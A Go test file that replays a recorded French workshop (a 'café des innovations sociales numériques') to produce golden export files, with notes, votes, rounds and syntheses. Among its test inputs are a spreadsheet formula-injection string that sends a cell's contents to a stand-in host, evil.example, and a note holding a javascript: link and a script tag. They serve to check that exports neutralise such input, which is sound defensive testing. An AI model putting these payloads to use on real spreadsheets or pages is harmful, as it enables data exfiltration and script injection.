package harvest

import (
	"encoding/json"
	"flag"
	"fmt"
	"strings"
	"testing"
	"unicode/utf16"

	"nappe/internal/workshop"
)

var update = flag.Bool("update", false, "rewrite the golden files in testdata/golden")

// Ids and times are fixed so the golden files change only when the exports do.
func fixedID(n int) string { return fmt.Sprintf("00000000-0000-4000-8000-%012d", n) }

func token(n int) string { return strings.Repeat(string(rune('a'+n)), workshop.TokenLength) }

// facilitatorKey is the key of the recorded workshops.
var facilitatorKey = token(0)

// t0 is 4 October 2018, 08:00 UTC, in Unix milliseconds like the log.
const t0 = 1538640000000

const minute = 60_000

// café records a workshop through the domain, as the server would.
type café struct {
	t   *testing.T
	s   *workshop.State
	now int64
	cmd int
}

func (c *café) apply(cmd string, bodies []workshop.Body, err error) {
	c.t.Helper()
	if err != nil {
		c.t.Fatal(err)
	}
	for _, b := range bodies {
		if err := c.s.Apply(workshop.Event{V: c.s.Version + 1, At: c.now, Cmd: cmd, Body: b}); err != nil {
			c.t.Fatal(err)
		}
	}
	c.now += minute
}

func (c *café) do(a workshop.Actor, typ string, data any) {
	c.t.Helper()
	raw, err := json.Marshal(data)
	if err != nil {
		c.t.Fatal(err)
	}
	c.cmd++
	cmd := workshop.Command{ID: fixedID(9000 + c.cmd), Type: typ, Data: raw}
	bodies, err := workshop.Decide(c.s, a, cmd, c.now)
	c.apply(cmd.ID, bodies, err)
}

func (c *café) joinWith(n int, tokenHash, name, org, email, table string) workshop.Actor {
	c.t.Helper()
	bodies, err := workshop.DecideJoin(c.s, workshop.JoinArgs{ID: fixedID(100 + n), TokenHash: tokenHash,
		Name: name, Organisation: org, Email: email, Table: table}, c.now)
	c.apply(fixedID(100+n), bodies, err)
	return workshop.Actor{Role: workshop.RoleParticipant, Participant: fixedID(100 + n)}
}

// join is someone joining from their phone, with a token of their own.
func (c *café) join(n int, name, org, email, table string) workshop.Actor {
	c.t.Helper()
	return c.joinWith(n, workshop.HashToken(token(2+n)), name, org, email, table)
}

// register is someone the facilitator registered (as an imported list does): their token is
// derived from the facilitator's key, so their badge can carry their personal link.
func (c *café) register(n int, name, org, email string) workshop.Actor {
	c.t.Helper()
	return c.joinWith(n, workshop.HashToken(workshop.DeriveParticipantToken(facilitatorKey, fixedID(100+n))), name, org, email, "")
}

func (c *café) post(a workshop.Actor, note int, table, text string, anonymous bool) {
	c.t.Helper()
	c.do(a, "note.post", map[string]any{"note": fixedID(note), "table": table, "text": text, "anonymous": anonymous})
}

// votes has up to n people sitting at the note's table (its author aside) vote for it, in joining
// order.
func (c *café) votes(note, n int) {
	c.t.Helper()
	nt := c.s.Notes[fixedID(note)]
	for i := 100; i < 120 && n > 0; i++ {
		p, ok := c.s.Participants[fixedID(i)]
		if ok && p.Table == nt.Table && p.ID != nt.Author {
			c.vote(workshop.Actor{Role: workshop.RoleParticipant, Participant: p.ID}, note)
			n--
		}
	}
}

func (c *café) vote(a workshop.Actor, note int) {
	c.t.Helper()
	c.do(a, "vote.toggle", map[string]any{"note": fixedID(note)})
}

// write replaces a synthesis with text in one push, as an editor would.
func (c *café) write(a workshop.Actor, doc, text string) {
	c.t.Helper()
	version, length := 0, 0
	if sy, ok := c.s.Syntheses[doc]; ok {
		version, length = sy.Version, len(utf16.Encode([]rune(sy.Text.String())))
	}
	insert := []any{length}
	for _, line := range strings.Split(text, "\n") {
		insert = append(insert, line)
	}
	c.do(a, "synthesis.push", map[string]any{"doc": doc, "version": version,
		"updates": []any{map[string]any{"clientID": "test", "changes": []any{insert}}}})
}

// The texts tests look for.
const (
	hiddenText  = "Note cachée : propos déplacé"
	hiddenText2 = "Hors sujet, à masquer"
	formulaText = `=HYPERLINK("http://evil.example/?x="&A1,"Cliquez ici")`
	emailEmilie = "emilie.durand@ouishare.net"
	emailAlexis = "a.sarrut@fest.fr"
	emailNicole = "nicole@plateformes.example"
)

var fac = workshop.Actor{Role: workshop.RoleFacilitator}

// The tables of the recorded workshops.
var t1, t2, t3 = fixedID(10), fixedID(11), fixedID(12)

// morning is the first hour of the Café des innovations sociales numériques: three ateliers, six
// people, notes with accents, emoji, a line break, an anonymous one, a hidden one, an edited one,
// one that tries to be a formula and one that tries to be Markdown, and votes. No round has
// started yet.
func morning(t *testing.T) *workshop.State {
	t.Helper()
	c, _ := morningCafé(t)
	return c.s
}

// people of the recorded café, in joining order.
type people struct{ emilie, lionel, claire, zoe, alexis, nadia workshop.Actor }

func morningCafé(t *testing.T) (*café, people) {
	t.Helper()
	c := &café{t: t, s: workshop.New(), now: t0}
	bodies, err := workshop.DecideCreate(c.s, workshop.CreateArgs{
		ID: fixedID(1), Code: "ISN2018", Language: "fr", AllowAnonymous: true,
		Title:              "Le café des innovations sociales numériques",
		Subtitle:           "De l'impact social à la transformation sociale. Quel rôle pour les innovations sociales numériques ?",
		Date:               "2018-10-04",
		Venue:              "Institut Mines-Télécom Business School, Évry",
		FacilitatorKeyHash: workshop.HashToken(facilitatorKey), BoardKeyHash: workshop.HashToken(token(1)),
		Tables: []workshop.Table{
			{ID: t1, Name: "Les pratiques numériques", Question: "Comment le numérique peut-il servir l'intérêt général ?", Colour: "teal"},
			{ID: t2, Name: "Financement & modèles économiques", Question: "Quels modèles économiques pour les ISN ?\nEt quels financeurs ?", Colour: "orange"},
			{ID: t3, Name: "Gouvernance", Question: "Qui décide, et comment ?", Colour: "purple"},
		},
	}, c.now)
	c.apply("create", bodies, err)

	var p people
	p.emilie = c.join(0, "Émilie Durand", "Ouishare", emailEmilie, t1)
	p.lionel = c.join(1, "Lionel Bouzonville", "Politizr", "lionel@politizr.example", t1)
	p.claire = c.join(2, "Claire Duizabo", "Entourage", "", t1)
	p.zoe = c.join(3, "Zoé Martin", "", "", t1)
	p.alexis = c.join(4, "Alexis Sarrut", "France Eco Sociale Tech", emailAlexis, t2)
	p.nadia = c.join(5, "Nadia Tiourtite", "Cmarue", "", t2)

	c.post(p.emilie, 20, t1, "Ouvrir les données publiques 🌍", false)
	c.post(p.lionel, 21, t1, "Former les bénévoles\naux outils numériques", false)
	c.post(p.claire, 22, t1, "Le numérique exclut aussi : 13 millions de Français éloignés", true)
	c.post(p.zoe, 23, t1, formulaText, false)
	c.post(p.lionel, 24, t1, hiddenText, false)
	for _, v := range []workshop.Actor{p.emilie, p.claire, p.zoe} {
		c.vote(v, 24) // the most votes at the table, yet hidden: no export may show it
	}
	c.do(fac, "note.hide", map[string]any{"note": fixedID(24)})
	c.post(fac, 25, t1, "# Synthèse [voir](javascript:alert(1)) <script>alert(1)</script>", false)
	c.do(p.emilie, "note.edit", map[string]any{"note": fixedID(20), "text": "Ouvrir les données publiques 🌍 et les algorithmes"})
	c.post(p.alexis, 30, t2, "Mécénat de compétences | crowdfunding", false)
	c.post(p.nadia, 31, t2, "-10 % de subventions en 2019 ? 😬", false)

	for _, v := range []workshop.Actor{p.lionel, p.claire, p.zoe} {
		c.vote(v, 20)
	}
	c.vote(p.emilie, 21)
	c.vote(p.claire, 21)
	c.vote(p.emilie, 22)
	c.vote(p.lionel, 23)
	c.vote(p.nadia, 30)
	return c, p
}

// recorded is the whole day: the morning, then a participant the facilitator registered, two
// table hosts, three planned rounds (the second with a question of its own) with notes in each
// (one anonymous, one written by a host for someone without a phone, one hidden), the tables'
// syntheses and the plenary's, with emoji, bullets and text that looks like markup.
func recorded(t *testing.T) *workshop.State {
	t.Helper()
	c, p := morningCafé(t)
	nicole := c.register(6, "Nicole Alix", "Plateformes en communs", emailNicole)
	c.do(fac, "host.set", map[string]any{"table": t1, "participant": p.emilie.Participant})
	c.do(fac, "host.set", map[string]any{"table": t2, "participant": p.alexis.Participant})
	c.do(fac, "rounds.set", map[string]any{"rounds": []any{
		map[string]any{"minutes": 20},
		map[string]any{"minutes": 20, "question": "Et demain, qui finance ?"},
		map[string]any{"minutes": 15},
	}})
	c.do(fac, "plan.make", map[string]any{})
	c.now += 10 * minute

	here := func(a workshop.Actor) string { return c.s.Participants[a.Participant].Table }
	note := 40
	postHere := func(a workshop.Actor, text string, anonymous bool) {
		c.post(a, note, here(a), text, anonymous)
		note++
	}

	// Round 1.
	c.do(fac, "round.start", map[string]any{})
	postHere(p.lionel, "Mutualiser les outils entre associations", false)
	postHere(p.claire, "Peur de la dépendance aux grandes plateformes 🤖", true)
	postHere(nicole, "Des communs numériques plutôt que des plateformes privées", false)
	c.do(p.emilie, "note.post", map[string]any{"note": fixedID(note), "text": "Le lien physique reste essentiel", "for": "Gérard Leroy"})
	note++
	postHere(p.zoe, "Mesurer l'impact <b>sans</b> tout quantifier & sans \"KPI\"", false)
	c.votes(43, 2)
	c.votes(42, 1)
	c.write(p.emilie, t1, "Mettre en réseau, décloisonner et mutualiser 🤝 pour répondre aux grands enjeux sociaux.\n"+
		"Un processus incrémental : améliorer l'existant.\n\n- Ouvrir les données publiques\n- Former les bénévoles\n"+
		"- Ne pas oublier le lien physique 💬\n\nL'innovation n'est pas une recette miracle.")
	c.now += 12 * minute

	// Round 2: the question of the round.
	c.do(fac, "round.start", map[string]any{})
	postHere(p.nadia, "Modèles « mixtes » : prestations, subventions, dons", false)
	postHere(p.lionel, hiddenText2, false)
	c.do(fac, "note.hide", map[string]any{"note": fixedID(note - 1)})
	postHere(p.alexis, "La forme juridique oriente le modèle économique", false)
	postHere(nicole, "Coopératives (SCIC) : plusieurs parties prenantes à la gouvernance", false)
	c.votes(note-1, 3)
	c.write(p.alexis, t2, "Il n'existe pas de modèle économique type pour les ISN 💶.\n\n"+
		"- Des modèles « mixtes » : prestations, subventions, commissions, crowdfunding\n"+
		"- L'articulation entre forme juridique et modèle économique est primordiale")
	c.now += 15 * minute

	// Round 3, then the end.
	c.do(fac, "round.start", map[string]any{})
	postHere(p.claire, "Évaluer la cohérence des activités, pas seulement les chiffres", false)
	postHere(p.zoe, "Qui choisit les indicateurs ?", false)
	postHere(p.nadia, "Témoignages d'usagers > nombre d'inscrits", false)
	c.votes(note-2, 1)
	c.now += 9 * minute
	c.do(fac, "round.end", map[string]any{})
	c.write(fac, workshop.PlenaryDoc, "Deux principales pistes 🚀\n\n"+
		"- Étudier les modèles économiques et de gouvernance des projets\n"+
		"- Travailler de manière interdisciplinaire\n\n"+
		"Deux leviers : la recherche et la pédagogie.\nÀ bientôt pour de nouveaux échanges <3")
	return c.s
}
